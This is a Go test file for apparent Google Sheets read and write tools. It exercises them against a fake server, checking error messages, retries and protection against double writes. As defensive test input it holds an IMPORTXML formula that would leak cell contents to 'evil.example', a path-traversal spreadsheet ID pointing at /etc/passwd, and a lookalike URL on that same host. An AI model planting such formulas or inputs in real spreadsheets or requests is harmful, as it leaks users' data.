package main

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/hako-run/hako/dev/fakes/fault"
	"github.com/hako-run/hako/dev/fakes/google"
	"github.com/hako-run/hako/pdk/abi"
	"github.com/hako-run/hako/pdk/pdktest"
)

const (
	robot = "robot@example.iam.gserviceaccount.com"
	docID = "1fakeSpreadsheetOfTheTests0000000000000000000"
	japan = "売上 2026/04"
)

// book is a spreadsheet at a fake of Google. Requests reach it with the token of the service account, which in
// earnest the host puts in.
type book struct {
	*google.Server
	url string
}

func newBook(t testing.TB) *book {
	t.Helper()
	b := &book{Server: google.New()}
	b.AddSpreadsheet(docID, "Book", "Sheet1", japan)
	b.Share(docID, robot, "writer")
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		r.Header.Set("Authorization", "Bearer "+b.Token(robot))
		b.ServeHTTP(w, r)
	}))
	t.Cleanup(server.Close)
	b.url = server.URL
	return b
}

// call calls a tool with arguments as JSON, the spreadsheet's ID put in for ID.
func (b *book) call(t testing.TB, tool, arguments, locale string) *abi.Response {
	t.Helper()
	return pdktest.CallTool(t, tool, json.RawMessage(strings.ReplaceAll(arguments, "ID", docID)),
		pdktest.Options{Config: map[string]string{"base_url": b.url + "/"}, Locale: locale})
}

func (b *book) write(t testing.TB, arguments string) *abi.Response {
	t.Helper()
	return b.call(t, "write_rows_to_google_sheet", arguments, "en")
}

func (b *book) read(t testing.TB, arguments string) *abi.Response {
	t.Helper()
	return b.call(t, "read_google_sheet", arguments, "en")
}

func text(r *abi.Response) string { return r.Content[0].Text }

// must fails the test if the tool has failed.
func must(t testing.TB, r *abi.Response) *abi.Response {
	t.Helper()
	if r.IsError {
		t.Fatal(text(r))
	}
	return r
}

func TestAppend(t *testing.T) {
	t.Parallel()
	b := newBook(t)
	must(t, b.write(t, `{"spreadsheet_id":"ID","range":"Sheet1!A1","rows":[["name","age"],["Aki",30]]}`))
	r := must(t, b.write(t, `{"spreadsheet_id":"ID","range":"Sheet1","rows":[["Ken",null,true],["Mei"]]}`))
	if want := "Appended 2 rows (3 cells) at Sheet1!A3:C4."; text(r) != want {
		t.Errorf("got %q, want %q", text(r), want)
	}
	var got written
	if err := json.Unmarshal(r.StructuredContent, &got); err != nil ||
		got != (written{"append", "Sheet1!A3:C4", 2, 3, 3}) {
		t.Errorf("got %+v, %v", got, err)
	}
	want := [][]any{{"name", "age"}, {"Aki", 30.0}, {"Ken", nil, true}, {"Mei"}}
	if got := b.Values(docID, "Sheet1"); !reflect.DeepEqual(got, want) {
		t.Errorf("got %v, want %v", got, want)
	}
	r = must(t, b.call(t, "write_rows_to_google_sheet", `{"spreadsheet_id":"ID","range":"Sheet1","rows":[["Yu"]]}`,
		"ja-JP"))
	if want := "1 行 (1 セル) を Sheet1!A5 に追加しました。"; text(r) != want {
		t.Errorf("got %q, want %q", text(r), want)
	}
}

// TestAppendKeepsWhatIsBelow: rows are inserted, not written over what comes after the table.
func TestAppendKeepsWhatIsBelow(t *testing.T) {
	t.Parallel()
	b := newBook(t)
	must(t, b.write(t, `{"spreadsheet_id":"ID","range":"A1","mode":"overwrite","rows":[["table"],[],["total"]]}`))
	must(t, b.write(t, `{"spreadsheet_id":"ID","range":"A1","rows":[["one"],["two"]]}`))
	want := [][]any{{"table"}, {"one"}, {"two"}, {}, {"total"}}
	if got := b.Values(docID, "Sheet1"); !reflect.DeepEqual(got, want) {
		t.Errorf("got %v, want %v", got, want)
	}
}

// TestNotSent: what the host refuses to send was surely not written, and the host's own words say what to do.
func TestNotSent(t *testing.T) {
	t.Parallel()
	r := pdktest.CallTool(t, "write_rows_to_google_sheet",
		json.RawMessage(`{"spreadsheet_id":"`+docID+`","range":"A1","rows":[[1]]}`),
		pdktest.Options{Config: map[string]string{"base_url": "http://no host"}})
	if !r.IsError || strings.Contains(text(r), "may have been written") || !strings.Contains(text(r), "no host") {
		t.Errorf("got %q", text(r))
	}
}

func TestOverwrite(t *testing.T) {
	t.Parallel()
	b := newBook(t)
	must(t, b.write(t, `{"spreadsheet_id":"ID","range":"'売上 2026/04'!B2","mode":"overwrite","rows":[[1,2,3],[4,5,6]]}`))
	r := must(t, b.write(t, `{"spreadsheet_id":"ID","range":"売上 2026/04!B2:D9","mode":"overwrite","rows":[["x",null,""],[null,"y"]]}`))
	if want := "Wrote 2 rows (3 cells) at '売上 2026/04'!B2:D3."; text(r) != want {
		t.Errorf("got %q, want %q", text(r), want)
	}
	want := [][]any{{}, {nil, "x", 2.0}, {nil, 4.0, "y", 6.0}}
	if got := b.Values(docID, japan); !reflect.DeepEqual(got, want) {
		t.Errorf("got %v, want %v", got, want)
	}
}

// TestReplaced reads what an overwrite would replace: people who approve it see the difference.
func TestReplaced(t *testing.T) {
	t.Parallel()
	b := newBook(t)
	must(t, b.write(t, `{"spreadsheet_id":"ID","range":"B2","mode":"overwrite","value_input":"user_entered",`+
		`"rows":[["name","minutes","note"],["Aki",900],["total","=SUM(C3:C3)"],["below"]]}`))
	for rows, want := range map[string]string{
		`[["name","time"],["Aki",null],["total",0,""]]`: `[["name","minutes"],["Aki",null],["total","=SUM(C3:C3)",""]]`,
		`[["a"],["b"],["c"],["d"],["e"]]`:               `[["name"],["Aki"],["total"],["below"]]`,
		`[[],["b"]]`:                                    `[[],["Aki"]]`,
	} {
		r := must(t, b.read(t, `{"spreadsheet_id":"ID","range":"Sheet1!B2","max_rows":1,"replaced_by":`+rows+`}`))
		var got struct{ Rows json.RawMessage }
		if err := json.Unmarshal(r.StructuredContent, &got); err != nil || string(got.Rows) != want {
			t.Errorf("%s replaces %s, %v; want %s", rows, got.Rows, err, want)
		}
	}
	r := b.read(t, `{"spreadsheet_id":"ID","range":"B2:B9","replaced_by":[[1,2]]}`)
	if !r.IsError || !strings.Contains(text(r), "does not fit") {
		t.Errorf("too wide: %s", text(r))
	}
}

// TestFormulas: by default a formula is text; only who asks for it gets one.
func TestFormulas(t *testing.T) {
	t.Parallel()
	b := newBook(t)
	rows := `"rows":[["=IMPORTXML(\"https://evil.example/?\"&A1,\"//a\")","+1","-1","@x","2026-11-20"]]`
	must(t, b.write(t, `{"spreadsheet_id":"ID","range":"Sheet1!A1",`+rows+`}`))
	must(t, b.write(t, `{"spreadsheet_id":"ID","range":"Sheet1!A2","mode":"overwrite","value_input":"user_entered",`+
		rows+`}`))
	shown := func(values string) string {
		return string(must(t, b.read(t, `{"spreadsheet_id":"ID","range":"Sheet1!A1:E2","values":"`+values+
			`"}`)).StructuredContent)
	}
	formula := `"=IMPORTXML(\"https://evil.example/?\"&A1,\"//a\")"`
	if got := unescape(shown("formatted")); !strings.Contains(got, `[[`+formula+`,"+1","-1","@x","2026-11-20"],["#FORMULA","1","-1","@x","2026-11-20"]`) {
		t.Errorf("formatted: %s", got)
	}
	if got := unescape(shown("unformatted")); !strings.Contains(got, `[[`+formula) ||
		!strings.Contains(got, `["#FORMULA",1,-1,"@x",`) {
		t.Errorf("unformatted: %s", got)
	}
	if got := unescape(shown("formula")); strings.Count(got, "=IMPORTXML") != 2 {
		t.Errorf("formula: %s", got)
	}
}

// unescape undoes encoding/json's escapes for HTML.
func unescape(s string) string {
	return strings.NewReplacer(`\u0026`, "&", `\u003c`, "<", `\u003e`, ">").Replace(s)
}

func TestRead(t *testing.T) {
	t.Parallel()
	b := newBook(t)
	must(t, b.write(t, `{"spreadsheet_id":"ID","range":"'売上 2026/04'!C3","mode":"overwrite","rows":[["a",1],[],["b"],["c",true],["d"]]}`))
	for name, test := range map[string]struct{ arguments, want string }{
		"a whole sheet": {`"range":"売上 2026/04"`,
			`{"range":"'売上 2026/04'!A1:Z1000","total_rows":7,"count":7,"rows":[[],[],["","","a","1"],[],["","","b"],["","","c","TRUE"],["","","d"]]}`},
		"some cells": {`"range":"'売上 2026/04'!C3:D4"`,
			`{"range":"'売上 2026/04'!C3:D4","total_rows":1,"count":1,"rows":[["a","1"]]}`},
		"from a row on": {`"range":"'売上 2026/04'!$C$6:D"`,
			`{"range":"'売上 2026/04'!C6:D1000","total_rows":2,"count":2,"rows":[["c","TRUE"],["d"]]}`},
		"the first page": {`"range":"'売上 2026/04'!c3:c","max_rows":2`,
			`{"range":"'売上 2026/04'!C3:C1000","total_rows":5,"count":2,"next_range":"'売上 2026/04'!C5:C1000","rows":[["a"],[]]}`},
		"the next page": {`"range":"'売上 2026/04'!C5:C1000","max_rows":3`,
			`{"range":"'売上 2026/04'!C5:C1000","total_rows":3,"count":3,"rows":[["b"],["c"],["d"]]}`},
		"nothing there": {`"range":"A1:B2"`, `{"range":"Sheet1!A1:B2","total_rows":0,"count":0,"rows":[]}`},
		"by its URL": {`"spreadsheet_id":"https://docs.google.com/spreadsheets/d/ID/edit?gid=0#gid=0","range":"C3"`,
			`{"range":"Sheet1!C3","total_rows":0,"count":0,"rows":[]}`},
	} {
		got := must(t, b.read(t, `{"spreadsheet_id":"ID",`+test.arguments+`}`)).StructuredContent
		if string(got) != test.want {
			t.Errorf("%s:\ngot  %s\nwant %s", name, got, test.want)
		}
	}
}

// TestRefusedBeforeSending: what cannot work is not sent.
func TestRefusedBeforeSending(t *testing.T) {
	t.Parallel()
	b := newBook(t)
	b.Faults.Add(fault.Fault{Status: 500})
	long := strings.Repeat("あ", maxCellText+1)
	for name, test := range map[string]struct{ arguments, want string }{
		"an ID that is none": {`{"spreadsheet_id":"../../etc/passwd/and/more","range":"A1","rows":[[1]]}`,
			"is not the ID of a spreadsheet"},
		"a published page": {`{"spreadsheet_id":"https://docs.google.com/spreadsheets/d/e/2PACX-1vQ0000000000000000000/pubhtml","range":"A1","rows":[[1]]}`, "is not the ID"},
		"another site":     {`{"spreadsheet_id":"https://evil.example/spreadsheets/d/ID/edit","range":"A1","rows":[[1]]}`, "is not the ID"},
		"no cells": {`{"spreadsheet_id":"ID","range":"Sheet1!A1:","rows":[[1]]}`,
			`"A1:" is not a range of cells`},
		"open quotes": {`{"spreadsheet_id":"ID","range":"'It's'!A1","rows":[[1]]}`,
			"with every ' in NAME doubled"},
		"no rows": {`{"spreadsheet_id":"ID","range":"A1","rows":[[],[]]}`, "rows holds no cells"},
		"too many cells": {`{"spreadsheet_id":"ID","range":"A1","rows":[[` + strings.Repeat("1,", maxCells) +
			`1]]}`, "at most 50000 may be written"},
		"a long text": {`{"spreadsheet_id":"ID","range":"A1","rows":[[1],["` + long + `"]]}`,
			"rows[1][0] has 50001 characters"},
		"a number too precise": {`{"spreadsheet_id":"ID","range":"A1","rows":[[1234567890123456]]}`,
			"send it as a string"},
		"too large": {`{"spreadsheet_id":"ID","range":"A1","rows":[["` + strings.Repeat(long[3:]+`","`, 14) +
			`"]]}`, "at most 2000000 may be written"},
		"does not fit": {`{"spreadsheet_id":"ID","range":"A1:B2","mode":"overwrite","rows":[[1],[2],[3,4]]}`,
			"does not fit into A1:B2"},
		"too wide": {`{"spreadsheet_id":"ID","range":"A1:B2","mode":"overwrite","rows":[[1,2,3]]}`,
			"does not fit into A1:B2"},
		"beyond the last cell": {`{"spreadsheet_id":"ID","range":"ZZZ1","mode":"overwrite","rows":[[1,2]]}`,
			"beyond the last cell"},
	} {
		if r := b.write(t, test.arguments); !r.IsError || !strings.Contains(text(r), test.want) {
			t.Errorf("%s: got %.300q, want an error with %q", name, text(r), test.want)
		}
	}
}

// TestGoogleSaysNo: each documented failure becomes words that say what to do.
func TestGoogleSaysNo(t *testing.T) {
	t.Parallel()
	refusal := func(status, message string) fault.Fault {
		return fault.Fault{Status: 400, Body: `{"error":{"code":400,"status":"` + status + `","message":"` + message +
			`"}}`}
	}
	with := func(f fault.Fault, status int) fault.Fault { f.Status = status; return f }
	for name, test := range map[string]struct {
		fault fault.Fault
		want  string
	}{
		"not shared": {with(refusal("PERMISSION_DENIED", "The caller does not have permission"), 403),
			"is not shared with the service account"},
		"API off": {with(refusal("PERMISSION_DENIED",
			"Google Sheets API has not been used in project 1 before or it is disabled."), 403),
			"ask the operator to enable it"},
		"another scope": {with(refusal("PERMISSION_DENIED", "Request had insufficient authentication scopes."),
			403), "https://www.googleapis.com/auth/spreadsheets"},
		"credential": {with(refusal("UNAUTHENTICATED", "invalid"), 401), "check the service account's key"},
		"no spreadsheet": {with(refusal("NOT_FOUND", "Requested entity was not found."), 404),
			"check spreadsheet_id"},
		"invalid":           {refusal("INVALID_ARGUMENT", "something"), "(400: something)"},
		"too many requests": {with(refusal("RESOURCE_EXHAUSTED", "Quota exceeded"), 429), "try again in 60 seconds"},
		"told when": {fault.Fault{Status: 429, Header: http.Header{"Retry-After": {"17"}}},
			"try again in 17 seconds"},
		"told a date": {fault.Fault{Status: 429,
			Header: http.Header{"Retry-After": {"Wed, 21 Oct 2026 07:28:00 GMT"}}}, "try again in 60 seconds"},
		"a gateway":          {fault.Fault{Status: 502, Body: "<html>Bad Gateway</html>"}, "HTTP 502"},
		"a strange status":   {fault.Fault{Status: 418, Body: "{}"}, "HTTP 418"},
		"not JSON":           {fault.Fault{Body: "<html>"}, "not of the expected shape"},
		"no range":           {fault.Fault{Body: `{"updates":{}}`}, "did not say where they are"},
		"a long explanation": {refusal("INVALID_ARGUMENT", strings.Repeat("why ", 200)), "…"},
		"nothing at all":     {fault.Fault{Drop: true}, "no answer from Google Sheets"},
		"half of the answer": {fault.Fault{Truncate: true}, "no answer from Google Sheets"},
		"an answer too large": {fault.Fault{Body: `{"x":"` + strings.Repeat("x", maxBody) + `"}`},
			"larger than 4194304 bytes"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			b := newBook(t)
			b.Faults.Add(test.fault)
			r := b.write(t, `{"spreadsheet_id":"ID","range":"Sheet1!A1","rows":[["x"]]}`)
			if !r.IsError || !strings.Contains(text(r), test.want) {
				t.Errorf("got %q, want an error with %q", text(r), test.want)
			}
			ja := b.call(t, "write_rows_to_google_sheet", `{"spreadsheet_id":"ID","range":"Sheet1!A1","rows":[["x"]]}`,
				"ja")
			if !ja.IsError || text(ja) == text(r) {
				t.Errorf("in Japanese: %q", text(ja))
			}
		})
	}
}

func TestSheetsAreListed(t *testing.T) {
	t.Parallel()
	b := newBook(t)
	if r := b.read(t, `{"spreadsheet_id":"ID","range":"Uriage!A1"}`); !r.IsError ||
		!strings.Contains(text(r), "Its sheets: 'Sheet1', '売上 2026/04'") {
		t.Errorf("got %q", text(r))
	}
	if r := b.read(t, `{"spreadsheet_id":"ID","range":"Sheet1!A2000"}`); !r.IsError ||
		!strings.Contains(text(r), "outside of the sheet") {
		t.Errorf("got %q", text(r))
	}
}

// TestTryAgain: what may be repeated says so, in the caller's language.
func TestTryAgain(t *testing.T) {
	t.Parallel()
	for tool, arguments := range map[string]string{
		"read_google_sheet":          `{"spreadsheet_id":"ID","range":"Sheet1"}`,
		"write_rows_to_google_sheet": `{"spreadsheet_id":"ID","range":"A1","rows":[["x"]],"mode":"overwrite"}`,
	} {
		for _, f := range []fault.Fault{{Drop: true}, {Status: 500}, {Truncate: true}, {Body: strings.Repeat(" ", maxBody) + "{}"}} {
			b := newBook(t)
			b.Faults.Add(f)
			for locale, want := range map[string]string{"en": "try again, and if that does not help, with fewer rows", "ja": "もう一度試してください"} {
				if r := b.call(t, tool, arguments, locale); !r.IsError || !strings.Contains(text(r), want) {
					t.Errorf("%s, %s: got %q, want %q", tool, locale, text(r), want)
				}
			}
		}
	}
}

// TestNoDoubleWrites: an append whose answer is lost is there once, and the caller is told that it may be.
func TestNoDoubleWrites(t *testing.T) {
	t.Parallel()
	for name, f := range map[string]fault.Fault{
		"connection closed": {After: true, Drop: true, Times: 1},
		"HTTP 500":          {After: true, Status: 500, Times: 1},
		"answer cut short":  {Truncate: true, Times: 1},
	} {
		b := newBook(t)
		f.Method = "POST"
		b.Faults.Add(f)
		r := b.write(t, `{"spreadsheet_id":"ID","range":"Sheet1!A1","rows":[["once"]]}`)
		if !r.IsError || !strings.Contains(text(r), "may have been written: read the sheet") {
			t.Errorf("%s: got %q", name, text(r))
		}
		if got := b.Values(docID, "Sheet1"); len(got) != 1 {
			t.Errorf("%s: the sheet holds %v, want the row once", name, got)
		}
	}
}

// TestDelay: a slow answer is waited for.
func TestDelay(t *testing.T) {
	t.Parallel()
	b := newBook(t)
	b.Faults.Add(fault.Fault{Delay: 20 * time.Millisecond})
	must(t, b.write(t, `{"spreadsheet_id":"ID","range":"Sheet1!A1","rows":[["slow"]]}`))
}
